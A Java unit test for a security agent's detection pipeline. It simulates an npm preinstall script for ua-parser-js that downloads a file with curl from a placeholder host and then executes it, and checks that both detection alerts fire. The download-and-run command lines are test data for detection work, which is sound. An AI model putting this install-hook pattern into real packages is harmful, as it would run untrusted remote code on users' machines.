package dev.hookline.agent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.process.ProcessInfo;
import dev.hookline.process.ProcessTable;
import dev.hookline.rules.RuleLoader;
import dev.hookline.rules.Tuning;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import dev.hookline.schema.Table;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The running agent's side of hookline_recently_written_*(): the pipeline feeds file rows to its index before
 * evaluating, the live process table gives the writer's ancestry, and the ring's reuse of one Event per slot does
 * not disturb what the index remembers.
 */
class DetectionPipelineLinksWritesToExecsTest {
    static final long T0 = dev.hookline.schema.Times.nowNanos() - 60_000_000_000L; // the pipeline's now is the clock
    static final long S = 1_000_000_000L;

    @Test
    void aPreinstallThatDownloadsAndRunsAFileRaisesBothArms() throws Exception {
        ProcessTable table = new ProcessTable(60 * S);
        // npm (node) 100 → sh 101 → sh preinstall.sh 102 → curl 103; only the table knows the levels above sh
        table.put(new ProcessInfo(100, 90, T0, "/usr/bin/node", "node /usr/bin/npm install ua-parser-js", 1000, null));
        table.put(new ProcessInfo(101, 100, T0, "/usr/bin/sh", "sh -c sh preinstall.sh", 1000, null));
        table.put(new ProcessInfo(102, 101, T0, "/usr/bin/sh", "sh preinstall.sh", 1000, null));
        table.put(new ProcessInfo(103, 102, T0, "/usr/bin/curl", "curl http://x/jsextension -o jsextension", 1000, null));
        DetectionPipelineFeedsTheEventOutputTest.Lines out = new DetectionPipelineFeedsTheEventOutputTest.Lines();
        DetectionPipeline p = new DetectionPipeline(new RuleLoader().loadBuiltin(), Tuning.NONE, table, out, null, 0);
        Event slot = new Event(); // one ring slot, refilled for each event
        slot.reset(Table.DeviceFileEvents).setTime(Columns.TIMESTAMP, T0 + S);
        slot.set(Columns.ACTION_TYPE, "FileCreated").set(Columns.FOLDER_PATH, "/p/node_modules/ua-parser-js/jsextension")
                .set(Columns.FILE_NAME, "jsextension").set(Columns.INITIATING_PROCESS_ID, 103L)
                .set(Columns.INITIATING_PROCESS_FILE_NAME, "curl")
                .set(Columns.INITIATING_PROCESS_COMMAND_LINE, "curl http://x/jsextension -o jsextension")
                .set(Columns.INITIATING_PROCESS_PARENT_ID, 102L).set(Columns.INITIATING_PROCESS_PARENT_FILE_NAME, "sh");
        p.onEvent(slot, 0, true);
        slot.reset(Table.DeviceProcessEvents).setTime(Columns.TIMESTAMP, T0 + 2 * S);
        slot.set(Columns.ACTION_TYPE, "ProcessCreated").set(Columns.FOLDER_PATH, "/p/node_modules/ua-parser-js/jsextension")
                .set(Columns.FILE_NAME, "jsextension").set(Columns.PROCESS_ID, 104L)
                .set(Columns.PROCESS_COMMAND_LINE, "./jsextension -k").set(Columns.INITIATING_PROCESS_ID, 102L)
                .set(Columns.INITIATING_PROCESS_FILE_NAME, "sh").set(Columns.INITIATING_PROCESS_COMMAND_LINE, "sh preinstall.sh");
        p.onEvent(slot, 1, true);
        List<String> lines = out.lines;
        assertTrue(lines.stream().anyMatch(l -> l.contains("\"Arm\":\"DownloadedFileExecuted\"")), lines.toString());
        assertTrue(lines.stream().anyMatch(l -> l.contains("\"Arm\":\"InstallWroteExecutedFile\"")), lines.toString());
        assertEquals(1L, p.counters().get("recent_writes_held"));
        assertEquals(0L, p.counters().get("recent_writes_evicted"));
    }
}
